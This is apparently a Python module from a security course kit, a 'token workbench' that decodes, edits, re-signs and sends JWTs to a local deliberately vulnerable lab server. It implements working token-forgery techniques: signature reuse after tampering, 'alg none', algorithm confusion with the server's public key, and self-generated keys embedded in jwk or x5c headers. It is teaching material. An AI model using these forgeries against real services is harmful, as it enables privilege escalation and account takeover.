"""The token workbench: decode a JWT, edit it, re-sign it a chosen way, send it to the lab, read the answer.

    token = fresh_token(lab, "alice")                          # or paste one: a demo user's new access token
    parts = read_token(token)                                  # header, claims, signature (nothing verified)
    how = signer("lab-secret", lab, secret=secret)             # or "keep", "rsa", "ec", "none", "public-hmac"
    forged = build(parts.header, {**parts.claims, "roles": ["admin"]}, how)
    reply = send(lab, "GET /api/admin", forged)                # status, RFC 6750 error, new audit events

The widget (coursekit.labtools.workbench_widget) is a view over these functions. Like the jwt.io debugger,
but offline: nothing here talks to anything but the lab server it is given, on this machine.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
from dataclasses import dataclass, field
from datetime import datetime, timezone
from typing import Callable

import jwt
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from jwt.algorithms import ECAlgorithm, RSAAlgorithm, get_default_algorithms

from coursekit.labtools.attacks import b64url, b64url_json, self_signed_certificate, x5c_of
from coursekit.labtools.client import bearer, log_in
from labserver.control.settings import DEMO_USERS
from coursekit.pictures.tokenview import decode_segment, split_token

OFFLINE_NOTICE = ("Offline: this workbench runs in your notebook's kernel. No token leaves this machine; "
                  "a token goes only to the lab server you send it to.")

# Okabe & Ito's palette, distinguishable with every common colour-vision deficiency; every colour is shown
# beside its name, so nothing is said by colour alone.
COLOURS = {
    "header": ("#D55E00", "vermillion"),
    "payload": ("#0072B2", "blue"),
    "signature": ("#009E73", "green"),
    "ok": ("#0072B2", "blue"),
    "bad": ("#D55E00", "vermillion"),
}
TIME_CLAIMS = ("iat", "nbf", "exp")
DEMO_NAMES = tuple(name for name, _password, _role in DEMO_USERS)


@dataclass(frozen=True)
class Parts:
    """A compact JWS taken apart, nothing verified: its segments, its header and claims, its signature bytes."""

    segments: tuple[str, str, str]
    header: dict
    claims: dict
    signature: bytes


def read_token(token: str) -> Parts:
    """Split and decode a token; ValueError saying what is wrong if it is not three segments of JSON."""
    segments = split_token(token)
    decoded = []
    for name, segment in zip(("header", "payload"), segments):
        try:
            value = json.loads(decode_segment(segment))
        except (ValueError, UnicodeDecodeError):
            raise ValueError(f"the {name} is not base64url-encoded JSON") from None
        if not isinstance(value, dict):
            raise ValueError(f"the {name} is JSON but not an object")
        decoded.append(value)
    try:
        signature = decode_segment(segments[2])
    except ValueError:
        raise ValueError("the signature is not base64url") from None
    return Parts(segments, decoded[0], decoded[1], signature)


def utc(seconds: float) -> str:
    """A NumericDate as ISO 8601 UTC; ValueError for one no calendar holds (an edited claim may be 1e20)."""
    try:
        return datetime.fromtimestamp(seconds, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    except (OverflowError, OSError) as error:
        raise ValueError(str(error)) from None


def _span(seconds: float) -> str:
    """A duration in words: "30 min", "1 h 5 min", "0 s"."""
    seconds, parts = abs(int(seconds)), []
    for unit, size in (("d", 86400), ("h", 3600), ("min", 60), ("s", 1)):
        if seconds >= size or (size == 1 and not parts):
            parts.append(f"{seconds // size} {unit}")
            seconds %= size
    return " ".join(parts[:2])


@dataclass(frozen=True)
class TimeNote:
    """One time claim read against the lab clock: ``ok`` False when it makes the token invalid now."""

    claim: str
    value: object
    text: str
    ok: bool


def time_notes(claims: dict, now: float) -> list[TimeNote]:
    """What ``iat``, ``nbf`` and ``exp`` mean at ``now`` (the lab's time, not this computer's)."""
    notes = []
    for name in TIME_CLAIMS:
        if name not in claims:
            continue
        value = claims[name]
        if isinstance(value, bool) or not isinstance(value, (int, float)):
            notes.append(TimeNote(name, value, "not a number: a verifier refuses the token", False))
            continue
        try:
            when, delta = utc(value), value - now
        except ValueError:
            notes.append(TimeNote(name, value, f"{value}: not a time any calendar holds", False))
            continue
        if name == "exp":
            text, ok = (f"{when}, expires in {_span(delta)}", True) if delta > 0 else (
                f"{when}, expired {_span(delta)} ago", False)
        elif name == "nbf":
            text, ok = (f"{when}, valid since {_span(delta)} ago", True) if delta <= 0 else (
                f"{when}, not valid for another {_span(delta)}", False)
        else:
            text, ok = (f"{when}, issued {_span(delta)} ago", True) if delta <= 0 else (
                f"{when}, issued in the future ({_span(delta)} ahead)", False)
        notes.append(TimeNote(name, value, text, ok))
    return notes


# --- ways to sign ---------------------------------------------------------------------------------------

@dataclass
class Signer:
    """One way to sign: the ``alg`` it writes in the header and how it turns the signing input into a signature.

    ``public_jwk`` is set for keys made here (RSA, EC): the public half, ready to embed in a ``jwk`` header
    or to serve in a JWK Set for ``jku``; ``certificate`` is a self-signed certificate for it, to carry in
    ``x5c`` or serve for ``x5u``. ``kid``, when set, replaces the header's: the key it names.
    """

    name: str
    label: str
    alg: str | None  # None: keep the header's alg as it is
    sign: Callable[[bytes], bytes]
    public_jwk: dict | None = None
    kid: str | None = None
    private_key: object = field(default=None, repr=False)
    certificate: object = field(default=None, repr=False)


def keep_signature(token: str) -> Signer:
    """Keep the token's own signature, whatever the new header and claims: what a tamperer does."""
    signature = read_token(token).signature
    return Signer("keep", "keep the original signature (tampering)", None, lambda _: signature)


def hs256(secret: bytes, label: str = "HS256 with a given secret") -> Signer:
    """HS256 (HMAC-SHA-256) with this secret, through PyJWT's algorithm.

    Its bare ``sign``, without ``prepare_key``: an attacker's secrets are often ones PyJWT rightly refuses
    or warns about (empty, a public key's PEM, a short password), and the workbench must sign with them.
    """
    algorithm = get_default_algorithms()["HS256"]
    return Signer("lab-secret", label, "HS256", lambda data: algorithm.sign(data, bytes(secret)))


def unsigned() -> Signer:
    """``alg: none`` and an empty signature (RFC 7519 §6): only a flawed verifier accepts it."""
    return Signer("none", "alg none, no signature", "none", lambda _: b"")


def generated(kind: str) -> Signer:
    """A fresh key pair made here: ``"rsa"`` (RS256, 2048 bits) or ``"ec"`` (ES256, P-256)."""
    if kind == "rsa":
        private, algorithm, alg = rsa.generate_private_key(65537, 2048), RSAAlgorithm, "RS256"
    elif kind == "ec":
        private, algorithm, alg = ec.generate_private_key(ec.SECP256R1()), ECAlgorithm, "ES256"
    else:
        raise ValueError('kind is "rsa" or "ec"')
    jwk = algorithm.to_jwk(private.public_key(), as_dict=True)
    jwk.pop("key_ops", None)  # RFC 7517 §4.3: use, not key_ops, for a public key
    jwk.update(kid=_thumbprint(jwk), alg=alg, use="sig")
    algo = get_default_algorithms()[alg]
    return Signer(kind, f"{alg} with a key generated here", alg, lambda data: algo.sign(data, private),
                  public_jwk=jwk, kid=jwk["kid"], private_key=private,
                  certificate=self_signed_certificate(private, "token workbench"))


def _thumbprint(jwk: dict) -> str:
    """The JWK's RFC 7638 thumbprint: a kid that names the key by its public members."""
    required = {"RSA": ("e", "kty", "n"), "EC": ("crv", "kty", "x", "y")}[jwk["kty"]]
    canonical = json.dumps({name: jwk[name] for name in required}, separators=(",", ":"), sort_keys=True)
    return b64url(hashlib.sha256(canonical.encode()).digest())


def public_key_as_hmac(public_jwk: dict) -> Signer:
    """HS256 keyed with a server's public key in PEM form: algorithm confusion (RFC 8725 §2.1).

    Anyone can build these bytes from the server's published JWK Set.
    """
    pem = jwt.PyJWK(public_jwk).key.public_bytes(serialization.Encoding.PEM,
                                                  serialization.PublicFormat.SubjectPublicKeyInfo)
    signer = hs256(pem, "HS256 keyed with the server's public key (PEM)")
    signer.name, signer.kid = "public-hmac", public_jwk.get("kid")
    return signer


def choices(lab=None, token: str | None = None, *, secret: bytes | None = None,
            secret_name: str = "the lab's secret") -> dict[str, str]:
    """The signing choices available, name -> label: what ``signer(name, ...)`` can make here."""
    found = {}
    if token:
        found["keep"] = "keep the original signature (tampering)"
    if secret is not None:
        found["lab-secret"] = f"HS256 with {secret_name}"
    found["rsa"] = "RS256 with a key generated here (its JWK can go in jwk/jku, its certificate in x5c/x5u)"
    found["ec"] = "ES256 with a key generated here (its JWK can go in jwk/jku, its certificate in x5c/x5u)"
    found["none"] = "alg none, no signature"
    if lab is not None and server_public_jwks(lab):
        found["public-hmac"] = "HS256 keyed with the server's public key (algorithm confusion)"
    return found


def signer(name: str, lab=None, token: str | None = None, *, secret: bytes | None = None,
           secret_name: str = "the lab's secret") -> Signer:
    """Make the signer called ``name`` (one of ``choices()``); RSA and EC keys are generated on each call."""
    if name == "keep":
        return keep_signature(token)
    if name == "lab-secret":
        return hs256(secret, f"HS256 with {secret_name}")
    if name in ("rsa", "ec"):
        return generated(name)
    if name == "none":
        return unsigned()
    if name == "public-hmac":
        return public_key_as_hmac(_named_key(server_public_jwks(lab), token))
    raise ValueError(f"no signing choice {name!r}; the choices are: {', '.join(choices())}")


def _named_key(published: list[dict], token: str | None) -> dict:
    """The published key the token's ``kid`` names (a lab that rotated publishes several), else the first."""
    kid = read_token(token).header.get("kid") if token else None
    return next((key for key in published if kid is not None and key.get("kid") == kid), published[0])


def build(header: dict, claims: dict, how: Signer, *, embed_jwk: bool = False, embed_x5c: bool = False) -> str:
    """The compact JWS of this header and these claims, signed ``how`` (alg and kid set to match the key).

    ``embed_jwk`` puts a generated key's public JWK in the ``jwk`` header (RFC 7515 §4.1.3), ``embed_x5c``
    its self-signed certificate in ``x5c`` (§4.1.6). The header is kept as given otherwise, key order
    included: an attack may need its own ``typ``, ``jku`` or ``x5u``.
    """
    header = dict(header)
    if how.alg is not None:
        header["alg"] = how.alg
    if how.kid is not None:
        header["kid"] = how.kid
    if embed_jwk:
        if how.public_jwk is None:
            raise ValueError(f"{how.label}: no public key to embed (only a key generated here has one)")
        header["jwk"] = how.public_jwk
    if embed_x5c:
        if how.certificate is None:
            raise ValueError(f"{how.label}: no certificate to embed (only a key generated here has one)")
        header["x5c"] = x5c_of(how.certificate)
    signing_input = b64url_json(header) + "." + b64url_json(claims)  # compact JSON, as PyJWT writes it
    return signing_input + "." + b64url(how.sign(signing_input.encode("ascii")))


# --- the lab ------------------------------------------------------------------------------------------

def fresh_token(lab, username: str) -> str:
    """A new access token from the lab for one of its demo users, logged in as lessons 02–09 do."""
    answer = log_in(lab, username)
    if "access_token" not in answer:
        raise ValueError(f"the lab refused to log {username} in: "
                         f"{answer.get('error_description') or answer.get('error') or answer}")
    return answer["access_token"]


def server_public_jwks(lab) -> list[dict]:
    """The lab's published public keys (empty for an HS256 lab)."""
    return lab.http.get(lab.url + "/.well-known/jwks.json", timeout=10).json()["keys"]


def routes(lab) -> list[str]:
    """The lab's operations that take a bearer token and need no path parameter, as ``"GET /api/me"``,
    read from its OpenAPI document."""
    document = lab.http.get(lab.url + "/openapi.json", timeout=10).json()
    found = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            if "{" not in path and {"bearer": []} in operation.get("security", []):
                found.append(f"{method.upper()} {path}")
    return found


@dataclass(frozen=True)
class Reply:
    """What the lab answered: status, body, the RFC 6750 challenge, and the audit events the request caused."""

    route: str
    status: int
    body: object
    challenge: dict
    audit: list[dict] | None  # None: the lab's audit log could not be read
    flaws: tuple[str, ...] = ()

    @property
    def accepted(self) -> bool:
        return 200 <= self.status < 300

    @property
    def error(self) -> str | None:
        return self.challenge.get("error") or (self.body.get("error") if isinstance(self.body, dict) else None)

    def __str__(self) -> str:
        flawed = f" with lab flaw {', '.join(self.flaws)} on" if self.flaws else ""
        lines = [f"{self.route}{flawed} -> {self.status} ({'ACCEPTED' if self.accepted else 'REFUSED'})",
                 f"body: {json.dumps(self.body, ensure_ascii=False)}"]
        if self.challenge:
            lines.append("WWW-Authenticate: " + ", ".join(f'{k}="{v}"' for k, v in self.challenge.items()))
        if self.audit is None:
            lines.append("audit log: not readable on this lab (its lab controls are off)")
        else:
            lines.append("audit log: " + ("; ".join(map(_event, self.audit)) if self.audit else "nothing recorded"))
        return "\n".join(lines)


def _event(event: dict) -> str:
    details = ", ".join(f"{k}={v}" for k, v in event.items() if k not in ("id", "at", "event"))
    return f"{event['at']} {event['event']}" + (f" ({details})" if details else "")


def send(lab, route: str, token: str, *, flaws: tuple[str, ...] = ()) -> Reply:
    """Send ``token`` as a bearer token to ``route`` ("GET /api/me") on the lab; return what happened.

    ``flaws`` are DELIBERATELY VULNERABLE lab flaws (lesson 06) switched on for this one request only.
    """
    method, _, path = route.partition(" ")
    with lab.flaw(*flaws) if flaws else contextlib.nullcontext():
        since = _last_event(lab)
        r = lab.http.request(method, lab.url + path, headers=bearer(token), timeout=10)
        events = lab.audit(since) if since is not None else None
    try:
        body = r.json()
    except ValueError:
        body = r.text
    return Reply(route, r.status_code, body, parse_challenge(r.headers.get("WWW-Authenticate", "")), events,
                 tuple(flaws))


def _last_event(lab) -> int | None:
    """The number of the audit log's last event (0 if empty), or None where the log cannot be read."""
    try:
        events = lab.audit()
    except requests.HTTPError:  # a lab started with lab_controls=False serves no /lab/audit
        return None
    return events[-1]["id"] if events else 0


def parse_challenge(value: str) -> dict:
    """The parameters of a ``Bearer`` challenge (RFC 6750 §3): realm, error, error_description."""
    scheme, _, params = value.partition(" ")
    if scheme.lower() != "bearer":
        return {}
    return dict(requests.utils.parse_dict_header(params))
